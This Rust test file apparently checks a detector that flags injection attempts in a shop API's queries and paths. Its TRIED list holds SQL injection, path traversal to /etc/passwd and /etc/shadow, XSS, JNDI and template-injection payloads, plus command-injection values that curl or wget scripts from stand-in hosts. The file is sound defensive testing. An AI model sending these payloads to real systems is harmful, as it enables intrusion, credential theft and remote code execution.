use proptest::prelude::*;

use super::*;

/// What tools and lists of tricks send, as the value of a parameter.
const TRIED: [(&str, Sign); 76] = [
    ("' or 1=1", Sign::Sql),
    ("x' OR '1'='1", Sign::Sql),
    ("x' oR/**/'a'='a'--", Sign::Sql),
    ("\" or \"\"=\"", Sign::Sql),
    ("') or ('1'='1", Sign::Sql),
    ("1 or 1=1", Sign::Sql),
    ("1 AND 4875=4875", Sign::Sql),
    ("1) AND 5212=8743 AND (5126=5126", Sign::Sql),
    ("x') AND 6543=6543 AND ('abcd'='abcd", Sign::Sql),
    ("x' AND '1' LIKE '1", Sign::Sql),
    ("' or username='admin", Sign::Sql),
    ("' or true--", Sign::Sql),
    ("' or not 1=2", Sign::Sql),
    ("1 or 1 = 1", Sign::Sql),
    ("admin'--", Sign::Sql),
    ("admin'-- wXyZ", Sign::Sql),
    ("admin' -- -", Sign::Sql),
    ("admin'#", Sign::Sql),
    ("admin'/*", Sign::Sql),
    ("admin') --", Sign::Sql),
    ("x';--", Sign::Sql),
    ("-1 union select 1,2,3", Sign::Sql),
    ("1' UNION ALL SELECT NULL,NULL-- -", Sign::Sql),
    ("1 uNiOn/**/sElEcT password from users", Sign::Sql),
    ("1 union\nselect\tnull", Sign::Sql),
    ("' union select @@version", Sign::Sql),
    ("1 union select 1)--", Sign::Sql),
    ("1; drop table product", Sign::Sql),
    ("1';DELETE FROM posting", Sign::Sql),
    ("1; insert into person values (1)", Sign::Sql),
    ("1; update person set role='owner'", Sign::Sql),
    ("1; exec master..xp_cmdshell 'dir'", Sign::Sql),
    ("1; select * from person", Sign::Sql),
    ("1 ORDER BY 10-- abcd", Sign::Sql),
    ("1' group by 1,2,3--", Sign::Sql),
    ("1;SELECT PG_SLEEP(5)--", Sign::Sql),
    ("1 and sleep(5)", Sign::Sql),
    ("1 and benchmark(5000000,md5(1))", Sign::Sql),
    ("1 waitfor delay '0:0:5'", Sign::Sql),
    ("1 AND EXTRACTVALUE(1,CONCAT(0x5c,1))", Sign::Sql),
    ("(SELECT (CASE WHEN (4875=4875) THEN 1 ELSE 2 END))", Sign::Sql),
    ("1 and (select count(*) from person)>0", Sign::Sql),
    ("'||(SELECT 'a' FROM dual)||'", Sign::Sql),
    ("CHR(113)||CHR(118)", Sign::Sql),
    ("CHAR(113)+CHAR(118)", Sign::Sql),
    ("1 and 1=(select tbl_name from sqlite_master)", Sign::Sql),
    ("x' and randomblob(100000000)", Sign::Sql),
    ("../../../../etc/passwd", Sign::Traversal),
    ("..\\..\\windows\\win.ini", Sign::Traversal),
    ("....//....//etc/passwd", Sign::Traversal),
    ("/etc/passwd", Sign::Traversal),
    ("../etc/shadow", Sign::Traversal),
    ("file:///etc/hosts", Sign::Traversal),
    ("C:\\Windows\\system32", Sign::Traversal),
    ("/WEB-INF/web.xml", Sign::Traversal),
    ("<script>alert(1)</script>", Sign::Script),
    ("\"><ScRiPt src=//x>", Sign::Script),
    ("<img src=x onerror=alert(1)>", Sign::Script),
    ("<svg/onload=alert(1)>", Sign::Script),
    ("javascript:alert(1)", Sign::Script),
    ("<iframe src=//x>", Sign::Script),
    ("<!ENTITY x SYSTEM \"y\">", Sign::Script),
    ("${jndi:ldap://x/a}", Sign::Lookup),
    ("${${lower:j}ndi:ldap://x/a}", Sign::Lookup),
    ("{{7*7}}", Sign::Lookup),
    ("{{''.__class__.__mro__}}", Sign::Lookup),
    ("x;curl http://x/a.sh", Sign::Lookup),
    ("x | curl -s x.example", Sign::Lookup),
    ("x |||& wget //x.example/a", Sign::Lookup),
    ("1' and 2 in (1,2) and 'a", Sign::Sql),
    ("x' or 1 is 'a", Sign::Sql),
    ("1'--", Sign::Sql),
    ("1' -- -", Sign::Sql),
    ("1\")--", Sign::Sql),
    ("1\") -- -", Sign::Sql),
    ("1 and ((( (select count(*) from person)))>0", Sign::Sql),
];

/// What people search for, call their goods and are called.
const USUAL: [&str; 86] = [
    "Café La Virginia 500 g",
    "O'Higgins",
    "O'Brien",
    "D'Onofrio",
    "Côte d'Or",
    "Côte d'Or = 5",
    "L'Oréal",
    "M&M's",
    "Select / Unión",
    "Pañales Unión Select 20",
    "Union Select 20 u",
    "Union select 1/2\"",
    "Union select 1,5 l",
    "Union Select 500-750 g",
    "Yerba (Select premium)",
    "(select 500)",
    "Western union",
    "credit union or bank",
    "Drop table tennis; rojo",
    "Mesa; drop",
    "tornillo; tuerca; arandela",
    "Caño 1/2' x 6'",
    "Caño 6' -- galvanizado",
    "TV 32\" and 40\"",
    "1/2\" or 3/4\"",
    "Llave 12\"-- acero",
    "oferta 2x1 or 3x2",
    "2 and 2",
    "1 = 1",
    "combo 2 and 2=3",
    "a--b--c",
    "yerba--mate",
    "-- sin nota --",
    "nota -- ver",
    "#5",
    "Café ... leche",
    "pan.../leche",
    "pan/../leche",
    "1..100",
    "v1.2..v1.3",
    "http://example.com/a--b?c=1",
    "https://shop.example/p/select--union",
    "$100",
    "$ {rojo}",
    "${nombre}",
    "{rojo}",
    "{{nombre}}",
    "2*3",
    "a < b > c",
    "<3",
    "I <3 yerba",
    "<b>",
    "script",
    "javascript: the good parts",
    "Sleep (2 plazas)",
    "Colchón Sleep",
    "char (pescado)",
    "Order by Chanel",
    "order by 10",
    "group by 2",
    "benchmark",
    "where is it",
    "having 2",
    "update; set de 6",
    "insert coin",
    "Exec; master",
    "etc/",
    "100% algodón",
    "50%",
    "%",
    "Factura 12; NC 34",
    "Rock 'n' roll",
    "5' & 6'",
    "\"Comillas\" (y paréntesis); $ 1.000,50 | #1 `x`",
    "Notebook 14\" and 2 in 1",
    "'Kids' and 2 in 1 shampoo",
    "Monitor 24\" and 2 is 1",
    "TV (32\") -- Samsung",
    "TV (32\") --",
    "Caño (1/2\") -- galvanizado",
    "(\"oferta\") -- x",
    "Manguera 6'-- roja",
    "Soga (6') -- roja",
    "Elvive | Curl Definer",
    "Crema; curl control",
    "Crema; curl -- control",
];

fn escaped_of(text: &str) -> String {
    crate::http::percent::encoded(text)
}

fn query(text: &str) -> Option<Attempt> {
    in_address(&format!("/api/v1/products?limit=50&search={text}").parse().unwrap())
}

#[test]
fn what_is_tried_is_recognised_however_it_is_written() {
    for (text, sign) in TRIED {
        let expected = Some(sign);
        assert_eq!(in_text(text, Place::Login).map(|found| found.sign), expected, "{text}");
        let once = escaped_of(text);
        let twice = escaped_of(&once);
        let form = once.replace("%20", "+");
        let all: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for written in [once, twice, form, all] {
            let found = query(&written);
            assert_eq!(found, Some(Attempt { sign, place: Place::Query }), "{text} as {written}");
        }
        let path = format!("/api/v1/products/{}", escaped_of(text));
        let found = in_address(&path.parse().unwrap());
        assert!(found.is_some_and(|found| found.place == Place::Path), "{path}: {found:?}");
    }
}

#[test]
fn usual_text_is_not_taken_for_an_attempt() {
    for text in USUAL {
        assert_eq!(in_text(text, Place::Field), None, "{text}");
        assert_eq!(query(&escaped_of(text)), None, "{text}");
        assert_eq!(query(&escaped_of(text).replace("%20", "+")), None, "{text}");
        assert_eq!(query(&escaped_of(&escaped_of(text))), None, "{text}");
    }
}

#[test]
fn addresses_of_our_own_hold_nothing_odd() {
    for address in [
        "/api/v1/products?search=yerba+mate&limit=50&cursor=eyJhIjoxfQ",
        "/api/v1/stock/centro?from=2026-11-01&to=2026-11-26T10:00:00-03:00",
        "/api/v1/products?search=caf%C3%A9%20la%20virginia%2C%20500%20g",
        "/assets/app.3f2a.css",
        "/",
    ] {
        let uri: Uri = address.parse().unwrap();
        assert!(!odd::in_address(uri.path().as_bytes()), "{address}");
        assert!(!uri.query().unwrap_or_default().split('&').any(|part| odd::in_address(part.as_bytes())), "{address}");
    }
}

#[test]
fn a_path_is_climbed_by_one_step_already() {
    for (path, expected) in [
        ("/assets/../../x", true),
        ("/assets/..%2f..%2fx", true),
        ("/assets/%2e%2e/x", true),
        ("/assets/%252e%252e/x", true),
        ("/assets/%c0%ae%c0%ae/x", true),
        ("/assets/..;/x", true),
        ("/assets/..", true),
        ("/assets/...", false),
        ("/assets/a..b", false),
        ("/assets/.well-known/x", false),
    ] {
        let found = in_address(&path.parse().unwrap());
        assert_eq!(found.is_some(), expected, "{path}");
    }
}

/// Words of goods and of what people write about them, also those that stand in statements and scripts.
const WORDS: [&str; 48] = [
    "yerba",
    "Café",
    "O'Higgins",
    "d'Or",
    "L'Oréal",
    "M&M's",
    "1/2\"",
    "6'",
    "32\"",
    "500",
    "2x1",
    "(x12)",
    "--",
    "/",
    "#5",
    "50%",
    "$100",
    "select",
    "Union",
    "unión",
    "drop",
    "table",
    "or",
    "and",
    "where",
    "order",
    "by",
    "script",
    "sleep",
    "update",
    "set",
    "delete",
    "insert",
    "into",
    "nulo",
    "pack,",
    "c/u",
    "+",
    "ñandú",
    "in",
    "is",
    "between",
    "curl",
    "|",
    "(32\")",
    "(32\") --",
    "(6') --",
    "6'-- roja",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4000))]

    #[test]
    fn no_order_of_usual_words_is_an_attempt(words in prop::collection::vec(prop::sample::select(&WORDS[..]), 1..9)) {
        let text = words.join(" ");
        prop_assert_eq!(in_text(&text, Place::Field), None, "{}", text);
        prop_assert_eq!(query(&escaped_of(&text)), None, "{}", text);
    }

    #[test]
    fn letters_digits_and_spaces_are_never_one(text in "[a-zA-ZñÑáéíóúü0-9 .,_-]{0,80}") {
        prop_assert_eq!(in_text(&text.replace("..", "."), Place::Field), None);
    }

    /// Nothing that has a sign is let by without a look, and what is around it does not hide it.
    #[test]
    fn what_holds_a_sign_is_worth_a_look(
        (before, after) in ("[a-z0-9 ]{0,20}", "( [a-z0-9 ]{0,20})?"),
        (tried, sign) in prop::sample::select(&TRIED[..]),
        cut in 0..60_usize,
    ) {
        let end = (0..=cut.min(tried.len())).rev().find(|at| tried.is_char_boundary(*at)).unwrap_or(0);
        for part in [tried, &tried[..end], &tried[end..]] {
            if judge(part.as_bytes(), Place::Query).is_some() {
                prop_assert!(odd::in_text(part.as_bytes()), "{}", part);
                prop_assert!(odd::in_address(part.as_bytes()), "{}", part);
                prop_assert!(odd::in_address(escaped_of(part).as_bytes()), "{}", part);
            }
        }
        let around = format!("{before} {tried}{after}");
        let behind_comment = tried.ends_with('#') || tried.ends_with("-- -") || tried.ends_with("/*");
        if sign == Sign::Sql && !behind_comment && after.is_empty() {
            prop_assert_eq!(in_text(&around, Place::Field).map(|found| found.sign), Some(sign), "{}", around);
        }
    }

    #[test]
    fn any_bytes_are_judged_and_an_escaped_text_like_the_text(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        judge(&bytes, Place::Path);
        let text = String::from_utf8_lossy(&bytes);
        prop_assert!(in_text(&text, Place::Query).is_none() || query(&escaped_of(&text)).is_some());
    }
}
